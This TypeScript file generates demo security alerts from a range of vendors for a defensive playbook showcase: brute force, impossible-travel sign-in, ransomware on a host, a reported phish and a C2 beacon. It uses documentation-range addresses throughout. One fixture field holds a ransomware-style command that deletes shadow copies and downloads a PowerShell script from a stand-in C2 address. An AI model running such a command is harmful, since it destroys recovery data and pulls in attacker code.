// The demo story: a morning at Acme, told as the vendor payloads the five shipped playbooks answer.
// Every address and name is from documentation ranges (RFC 5737/3849, example TLDs), so the demo
// can never point a playbook at a real system. Timestamps are fresh (minutes before `now`) and ids
// carry a per-run suffix, so each run sends new alerts rather than duplicates.
import type { DemoSlug } from "./demo-sources";

export const DEMO_SCENARIOS = ["brute-force", "suspicious-sign-in", "malware-on-host", "phishing-reported", "c2-beacon"] as const;
export type DemoScenario = (typeof DEMO_SCENARIOS)[number];

/** The cast, shared across alerts so the story is consistent (same attacker IP in every brute force alert). */
export const DEMO_CAST = {
  attackerIp: "203.0.113.77",
  vpnUser: "CORP\\alice",
  travelUser: "bob@acme.example",
  travelIpHome: "198.51.100.20",
  travelIpAway: "203.0.113.140",
  workstation: "FIN-WS-12",
  server: "srv-file-01",
  c2Ip: "192.0.2.66",
  c2Domain: "cdn-update.example",
  malwareSha256: "275a021bbfb6489e54d471899f7db9d1663fc695ec2fe2a2c4538aabf651fd0f",
  phishSender: "billing@invoices-portal.example",
} as const;

export interface DemoAlert {
  scenario: DemoScenario;
  slug: DemoSlug;
  payload: unknown;
}

interface StoryClock {
  now: Date;
  /** Distinguishes this run's ids from earlier runs' (a few random characters). */
  runTag: string;
}

const minutesBefore = (now: Date, minutes: number) => new Date(now.getTime() - minutes * 60_000);
const iso = (d: Date) => d.toISOString();
const unix = (d: Date) => Math.floor(d.getTime() / 1000);

function bruteForce({ now, runTag }: StoryClock): DemoAlert[] {
  const { attackerIp } = DEMO_CAST;
  const vpn = {
    sid: `scheduler__admin__search__demo_${runTag}`,
    search_name: "Brute Force Access Behavior Detected",
    app: "search",
    owner: "admin",
    result: {
      _time: String(unix(minutesBefore(now, 6))),
      src: attackerIp,
      dest: "vpn-gw01.acme.example",
      user: DEMO_CAST.vpnUser,
      app: "globalprotect",
      action: "failure",
      count: "57",
      urgency: "high",
      description: `57 failed VPN logins for ${DEMO_CAST.vpnUser} from ${attackerIp} in 10 minutes; the 58th succeeded.`,
    },
  };
  const ssh = {
    timestamp: iso(minutesBefore(now, 4)),
    id: `demo-${runTag}.5712`,
    rule: {
      level: 10,
      description: "sshd: brute force trying to get access to the system. Non existent user.",
      id: "5712",
      mitre: { id: ["T1110"], tactic: ["Credential Access"], technique: ["Brute Force"] },
      groups: ["syslog", "sshd", "authentication_failures"],
    },
    agent: { id: "004", name: "bastion-01", ip: "10.9.0.4" },
    manager: { name: "wazuh-manager" },
    full_log: `sshd[20215]: Invalid user admin from ${attackerIp} port 51240`,
    decoder: { parent: "sshd", name: "sshd" },
    data: { srcip: attackerIp, srcport: "51240", srcuser: "admin" },
    location: "/var/log/auth.log",
  };
  return [
    { scenario: "brute-force", slug: "demo-splunk", payload: vpn },
    { scenario: "brute-force", slug: "demo-wazuh", payload: ssh },
  ];
}

function suspiciousSignIn({ now, runTag }: StoryClock): DemoAlert[] {
  const { travelUser, travelIpHome, travelIpAway } = DEMO_CAST;
  const signIn = (minutes: number, ip: string, city: string, country: string, risky: boolean, n: number) => ({
    uuid: `demo-${runTag}-okta-${n}`,
    published: iso(minutesBefore(now, minutes)),
    eventType: "user.session.start",
    version: "0",
    severity: risky ? "WARN" : "INFO",
    displayMessage: "User login to Okta",
    actor: { id: "00u2bob0000000000000", type: "User", alternateId: travelUser, displayName: "Bob Example" },
    client: { zone: "null", ipAddress: ip, geographicalContext: { city, country } },
    outcome: { result: "SUCCESS" },
    debugContext: {
      debugData: risky
        ? { behaviors: "{New Geo-Location=POSITIVE, New Device=POSITIVE, New IP=POSITIVE, New Country=POSITIVE, Velocity=POSITIVE, New City=POSITIVE}", risk: "{reasons=Anomalous Location, Impossible travel, level=HIGH}" }
        : { behaviors: "{New Geo-Location=NEGATIVE, New Device=NEGATIVE, New IP=NEGATIVE, Velocity=NEGATIVE}", risk: "{level=LOW}" },
    },
    securityContext: { isProxy: false },
    target: [],
  });
  const hook = {
    eventType: "com.okta.event_hook",
    eventTypeVersion: "1.0",
    cloudEventsVersion: "0.1",
    contentType: "application/json",
    eventId: `demo-${runTag}-hook`,
    eventTime: iso(minutesBefore(now, 3)),
    source: "https://acme.okta.example/api/v1/eventHooks/demo",
    data: { events: [signIn(40, travelIpHome, "Lyon", "France", false, 1), signIn(5, travelIpAway, "Sydney", "Australia", true, 2)] },
  };
  const incident = {
    objectSchemaType: "Incident",
    objectEventType: "Create",
    object: {
      id: `/subscriptions/demo/providers/Microsoft.SecurityInsights/incidents/demo-${runTag}`,
      name: `demo-${runTag}`,
      type: "Microsoft.SecurityInsights/incidents",
      properties: {
        title: "Unfamiliar sign-in properties",
        description: `${travelUser} signed in from Sydney, Australia (${travelIpAway}) on a new device, 35 minutes after a sign-in from Lyon, France.`,
        severity: "Medium",
        status: "New",
        firstActivityTimeUtc: iso(minutesBefore(now, 5)),
        lastActivityTimeUtc: iso(minutesBefore(now, 4)),
        createdTimeUtc: iso(minutesBefore(now, 2)),
        incidentNumber: 4100,
        providerName: "Azure Sentinel",
        providerIncidentId: `demo-${runTag}`,
        additionalData: { alertsCount: 1, alertProductNames: ["Microsoft Entra ID Protection"], tactics: ["InitialAccess"] },
        relatedEntities: [
          { kind: "Account", properties: { accountName: "bob", upnSuffix: "acme.example", userPrincipalName: travelUser } },
          { kind: "Ip", properties: { address: travelIpAway } },
        ],
      },
    },
  };
  return [
    { scenario: "suspicious-sign-in", slug: "demo-okta", payload: hook },
    { scenario: "suspicious-sign-in", slug: "demo-sentinel", payload: incident },
  ];
}

function malwareOnHost({ now, runTag }: StoryClock): DemoAlert[] {
  const { workstation, server, c2Ip, malwareSha256 } = DEMO_CAST;
  const started = minutesBefore(now, 9);
  const falcon = {
    metadata: { customerIDString: "0123456789abcdef0123456789abcdef", offset: 14947764, eventType: "DetectionSummaryEvent", eventCreationTime: started.getTime() + 60_000, version: "1.0" },
    event: {
      ProcessStartTime: unix(started),
      ComputerName: workstation,
      UserName: "ivan",
      DetectName: "Ransomware: shadow copies deleted",
      DetectDescription: "A process deleted volume shadow copies and downloaded a script, which is often indicative of ransomware activity.",
      Severity: 4,
      SeverityName: "High",
      FileName: "vssadmin.exe",
      FilePath: "\\Device\\HarddiskVolume3\\Windows\\System32",
      CommandLine: `vssadmin.exe delete shadows /all /quiet & powershell -c iwr hxxp://${c2Ip}/k.ps1`,
      SHA256String: malwareSha256,
      MD5String: "ac4c51eb24aa95b77f705ab159189e24",
      SensorId: "ec86abd353824e96765ecbe18eb4f0b4",
      DetectId: `ldt:ec86abd353824e96765ecbe18eb4f0b4:demo${runTag}`,
      LocalIP: "10.7.3.12",
      Tactic: "Malware",
      Technique: "Ransomware",
      PatternDispositionDescription: "Prevention, process killed.",
      NetworkAccesses: [{ AccessType: 0, AccessTimestamp: unix(started) + 1, Protocol: "TCP", LocalAddress: "10.7.3.12", LocalPort: 50311, RemoteAddress: c2Ip, RemotePort: 80, ConnectionDirection: 0, IsIPV6: false }],
    },
  };
  const defender = {
    "@odata.type": "#microsoft.graph.security.alert",
    id: `da-demo-${runTag}`,
    providerAlertId: `da-demo-${runTag}`,
    incidentId: "41207",
    status: "new",
    severity: "high",
    serviceSource: "microsoftDefenderForEndpoint",
    detectionSource: "antivirus",
    title: "Ransomware payload 'Lockbit' was prevented",
    description: `A ransomware payload was launched by ACME\\svc-backup on ${server} and blocked.`,
    category: "Ransomware",
    threatDisplayName: "Ransom:Win32/LockBit.A",
    threatFamilyName: "LockBit",
    mitreTechniques: ["T1486"],
    createdDateTime: iso(minutesBefore(now, 7)),
    lastUpdateDateTime: iso(minutesBefore(now, 6)),
    firstActivityDateTime: iso(minutesBefore(now, 8)),
    lastActivityDateTime: iso(minutesBefore(now, 8)),
    evidence: [
      {
        "@odata.type": "#microsoft.graph.security.deviceEvidence",
        verdict: "suspicious",
        deviceDnsName: `${server}.acme.example`,
        osPlatform: "WindowsServer2022",
        rbacGroupName: "Servers",
        ipInterfaces: ["10.1.0.21"],
        loggedOnUsers: [{ accountName: "svc-backup", domainName: "ACME" }],
        roles: ["compromised"],
      },
      {
        "@odata.type": "#microsoft.graph.security.fileEvidence",
        verdict: "malicious",
        detectionStatus: "prevented",
        fileDetails: { sha256: malwareSha256, sha1: "3395856ce81f2b7382dee72602f798b642f14140", fileName: "inv.exe", filePath: "C:\\ProgramData" },
      },
    ],
  };
  return [
    { scenario: "malware-on-host", slug: "demo-crowdstrike", payload: falcon },
    { scenario: "malware-on-host", slug: "demo-defender", payload: defender },
  ];
}

function phishingReported({ now, runTag }: StoryClock): DemoAlert[] {
  const report = {
    report_id: `demo-${runTag}-phish`,
    reported_at: iso(minutesBefore(now, 2)),
    subject_line: "Reported phishing: Invoice 4471 overdue - action required",
    reporter: "carol@acme.example",
    sender: DEMO_CAST.phishSender,
    sender_domain: "invoices-portal.example",
    urls: ["https://invoices-portal.example/view?id=4471"],
    attachments: [{ name: "invoice-4471.docm", sha256: "e3b98c6a1d5f4a2c8b7e6d5c4b3a2f1e0d9c8b7a6f5e4d3c2b1a0f9e8d7c6b5a" }],
    comment: "Carol used the Report phishing button: unexpected invoice with a macro document.",
  };
  return [{ scenario: "phishing-reported", slug: "demo-phishing", payload: report }];
}

function c2Beacon({ now, runTag }: StoryClock): DemoAlert[] {
  const { c2Ip, c2Domain } = DEMO_CAST;
  const eve = {
    timestamp: iso(minutesBefore(now, 3)).replace("Z", "+0000"),
    flow_id: Number.parseInt(runTag, 36) * 1000 + 7,
    event_type: "alert",
    src_ip: "10.7.3.12",
    src_port: 51511,
    dest_ip: c2Ip,
    dest_port: 443,
    proto: "TCP",
    alert: { action: "allowed", gid: 1, signature_id: 2044125, rev: 1, signature: "ET MALWARE Observed Cobalt Strike Domain in TLS SNI", category: "Domain Observed Used for C2 Detected", severity: 1 },
    tls: { subject: `CN=${c2Domain}`, sni: c2Domain, version: "TLS 1.2" },
    app_proto: "tls",
  };
  const finding = {
    version: "0",
    id: `demo-${runTag}-gd`,
    "detail-type": "GuardDuty Finding",
    source: "aws.guardduty",
    account: "111122223333",
    time: iso(minutesBefore(now, 1)),
    region: "eu-west-1",
    resources: [],
    detail: {
      schemaVersion: "2.0",
      accountId: "111122223333",
      region: "eu-west-1",
      id: `demo${runTag}c2dns`,
      arn: `arn:aws:guardduty:eu-west-1:111122223333:detector/demo/finding/demo${runTag}c2dns`,
      type: "Backdoor:EC2/C&CActivity.B!DNS",
      title: `EC2 instance i-0demo0c2 is querying a domain name associated with a known command and control server.`,
      description: `EC2 instance i-0demo0c2 is querying ${c2Domain}, a domain associated with a known command and control server.`,
      severity: 8,
      createdAt: iso(minutesBefore(now, 2)),
      updatedAt: iso(minutesBefore(now, 1)),
      resource: { resourceType: "Instance", instanceDetails: { instanceId: "i-0demo0c2", networkInterfaces: [{ privateIpAddress: "10.0.4.19", privateDnsName: "ip-10-0-4-19.eu-west-1.compute.internal" }], tags: [{ key: "Name", value: "build-runner-3" }] } },
      service: {
        serviceName: "guardduty",
        action: { actionType: "DNS_REQUEST", dnsRequestAction: { domain: c2Domain, protocol: "UDP", blocked: false } },
        resourceRole: "TARGET",
        eventFirstSeen: iso(minutesBefore(now, 4)),
        eventLastSeen: iso(minutesBefore(now, 2)),
        count: 12,
      },
    },
  };
  return [
    { scenario: "c2-beacon", slug: "demo-suricata", payload: eve },
    { scenario: "c2-beacon", slug: "demo-guardduty", payload: finding },
  ];
}

/** Every demo alert of one run, in story order (brute force first, the C2 beacon last). */
export function demoAlerts(clock: StoryClock): DemoAlert[] {
  return [bruteForce, suspiciousSignIn, malwareOnHost, phishingReported, c2Beacon].flatMap((scenario) => scenario(clock));
}
